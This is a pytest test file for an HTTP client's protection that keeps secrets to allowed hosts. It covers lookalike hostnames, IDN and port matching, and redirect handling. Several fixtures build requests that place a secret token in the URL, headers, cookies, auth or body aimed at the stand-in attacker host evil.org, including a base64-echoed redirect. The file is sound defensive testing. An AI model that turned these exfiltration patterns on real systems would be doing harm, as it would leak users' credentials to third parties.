from __future__ import annotations

import base64
from pathlib import Path

import msgspec
import pytest

from endpoint_explorer.errors import RedirectRefused, SecretRefused
from endpoint_explorer.model.collection import Context, Environment
from endpoint_explorer.model.exchange import PreparedRequest
from endpoint_explorer.model.request import Auth, Body, Field, Request
from endpoint_explorer.sending import redirects, urls
from endpoint_explorer.sending.resolve import prepare
from endpoint_explorer.sending.secret_hosts import is_allowed

VALUE = "s3cr3t/value+of a token"


def resolve(request: Request, *hosts: str) -> PreparedRequest:
    environment = Environment(
        name="e", secrets={"token": "env:T"}, secret_hosts={"token": hosts} if hosts else {}
    )
    context = Context(directory=Path("/c"), environment=environment)
    return prepare(request, context, lambda *_: VALUE)


@pytest.mark.parametrize(
    ("url", "pattern", "expected"),
    [
        ("https://api.example.com/", "api.example.com", True),
        ("https://API.Example.com/", "api.example.COM", True),
        ("https://api.example.com./", "api.example.com", True),
        ("https://api.example.com.evil.org/", "api.example.com", False),
        ("https://evilapi.example.com/", "api.example.com", False),
        ("https://api.example.com@evil.org/", "api.example.com", False),
        ("https://a.example.com/", "*.example.com", True),
        ("https://a.b.example.com/", "*.example.com", True),
        ("https://example.com/", "*.example.com", False),
        ("https://evilexample.com/", "*.example.com", False),
        ("http://localhost:8080/", "localhost", True),
        ("http://localhost:8080/", "localhost:8080", True),
        ("http://localhost:8081/", "localhost:8080", False),
        ("https://a.org/", "a.org:443", True),
        ("http://a.org/", "a.org:443", False),
        ("http://[::1]:80/", "::1", True),
        ("http://[0:0::1]:80/", "[::1]:80", True),
        ("http://[::2]/", "[::1]", False),
        ("https://bücher.example/", "xn--bcher-kva.example", True),
        ("https://xn--bcher-kva.example/", "BÜCHER.example", True),
        ("https://a.bücher.example/", "*.bücher.example", True),
        ("https://example.com/", "*.", False),
        ("https://example.com/", "*", False),
    ],
)
def test_hosts(url: str, pattern: str, expected: bool) -> None:
    assert is_allowed(urls.parse(url), (pattern,)) is expected
    assert is_allowed(urls.parse(url), ("other.test", pattern)) is expected


@pytest.mark.parametrize(
    ("field", "request_"),
    [
        ("url", Request(url="https://evil.org/{{token}}")),
        ("url", Request(url="https://evil.org/", query=(Field("a", "{{token}}"),))),
        ("headers.X", Request(url="https://evil.org/", headers=(Field("X", "{{token}}"),))),
        (
            "headers.Cookie",
            Request(url="https://evil.org/", headers=(Field("Cookie", "s={{token}}"),)),
        ),
        (
            "headers.Authorization",
            Request(url="https://evil.org/", auth=Auth(type="bearer", token="{{token}}")),
        ),
        (
            "headers.Authorization",
            Request(
                url="https://evil.org/", auth=Auth(type="basic", username="u", password="{{token}}")
            ),
        ),
        (
            "body",
            Request(
                method="POST",
                url="https://evil.org/",
                body=Body(type="json", text='{"a": "{{token}}"}'),
            ),
        ),
    ],
)
def test_wherever_it_is_a_secret_is_refused_to_another_host(field: str, request_: Request) -> None:
    with pytest.raises(SecretRefused) as caught:
        resolve(request_, "api.example.com", "*.example.org")
    assert caught.value.field == field
    assert caught.value.message == (
        f"{field}: the secret token is not for evil.org, only for api.example.com, *.example.org"
    )
    assert VALUE not in str(caught.value)
    assert resolve(request_, "evil.org").url.startswith("https://evil.org/")
    assert resolve(request_).url.startswith("https://evil.org/")


def test_a_redirect_does_not_take_it_to_another_host_either() -> None:
    request = Request(
        method="POST", url="https://api.example.com/", body=Body(type="text", text="{{token}}")
    )
    sent = resolve(request, "api.example.com")

    def follow(sent: PreparedRequest, location: str) -> PreparedRequest:
        step = redirects.next_step(sent, 307, (("Location", location),), ())
        assert step is not None
        return step.request

    open_handed = msgspec.structs.replace(sent, resend_body_cross_origin=True)
    assert follow(sent, "/there").body == sent.body
    with pytest.raises(RedirectRefused, match=r"the secret token is not for evil\.org, only"):
        follow(open_handed, "https://evil.org/")
    echoed = f"https://evil.org/{base64.b64encode(VALUE.encode()).decode()}"
    with pytest.raises(RedirectRefused, match=r"token is not for evil\.org"):
        follow(msgspec.structs.replace(sent, body=()), echoed)
    assert follow(msgspec.structs.replace(sent, body=()), "https://evil.org/").url
